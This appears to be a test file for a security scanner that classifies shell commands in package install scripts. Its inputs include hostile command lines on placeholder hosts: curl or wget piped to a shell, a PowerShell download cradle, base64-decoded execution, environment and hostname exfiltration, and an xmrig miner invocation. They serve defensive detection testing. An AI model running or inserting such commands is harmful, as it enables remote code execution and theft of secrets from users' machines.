import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeShell, splitShell } from '../../../src/analysis/javascript/shell.js';

const behaviours = (s: string): string[] => analyzeShell(s).map((f) => f.behaviour);

describe('install-script shell reader', () => {
  it('splits on operators and keeps quoted words together', () => {
    const cmds = splitShell(`FOO=1 node -e "console.log('a && b')" && echo done; curl -s 'https://x.invalid/a b' | sh`);
    assert.deepEqual(cmds.map((c) => c.program), ['node', 'echo', 'curl', 'sh']);
    assert.equal(cmds[0]?.args[1], "console.log('a && b')");
    assert.equal(cmds[2]?.pipedInto, 'sh');
  });
  it('recognises download-and-execute in its usual shapes', () => {
    assert.deepEqual(behaviours('curl -fsSL https://x.invalid/i.sh | bash'), ['download-exec', 'other']);
    assert.equal(behaviours('wget -qO- http://x.invalid/a | sudo sh')[0], 'download-exec');
    assert.ok(behaviours('curl http://192.0.2.1/x -o x; chmod +x x; ./x').includes('download-exec'));
    assert.deepEqual(behaviours('powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x.invalid\')"'), ['download-exec']);
    assert.deepEqual(behaviours('echo aGVsbG8= | base64 -d | sh'), ['benign-tool', 'encoded-exec', 'other']);
  });
  it('recognises host information sent over the network, also inside substitutions', () => {
    assert.deepEqual(behaviours('nslookup `hostname`.x.invalid'), ['other', 'host-exfil']);
    assert.ok(behaviours('curl -d "$(env)" https://x.invalid').includes('host-exfil'));
    assert.ok(behaviours('IP=$(curl -k https://geo.invalid/xml)').includes('network'));
  });
  it('follows node/sh targets and inline code', () => {
    const f = analyzeShell('node --max-old-space-size 4096 ./scripts/post.js --flag && sh build.sh && node -e "require(1)"');
    assert.deepEqual(f.map((x) => [x.behaviour, x.target]), [
      ['node-file', './scripts/post.js'],
      ['shell-file', 'build.sh'],
      ['node-inline', 'require(1)'],
    ]);
  });
  it('knows native builds and housekeeping tools by what they run', () => {
    assert.deepEqual(behaviours('node-gyp rebuild'), ['native-build']);
    assert.deepEqual(behaviours('prebuild-install || node-gyp rebuild'), ['native-build', 'native-build']);
    assert.deepEqual(behaviours('husky install && patch-package && opencollective-postinstall'), ['benign-tool', 'benign-tool', 'benign-tool']);
    assert.deepEqual(behaviours('./xmrig -o stratum+tcp://pool.invalid:3333'), ['miner']);
  });
  it('stays bounded on hostile input', () => {
    const t0 = performance.now();
    analyzeShell(`${'$('.repeat(5000)}${'"'.repeat(5000)}${'a | '.repeat(20000)}`);
    assert.ok(performance.now() - t0 < 10_000);
  });
});
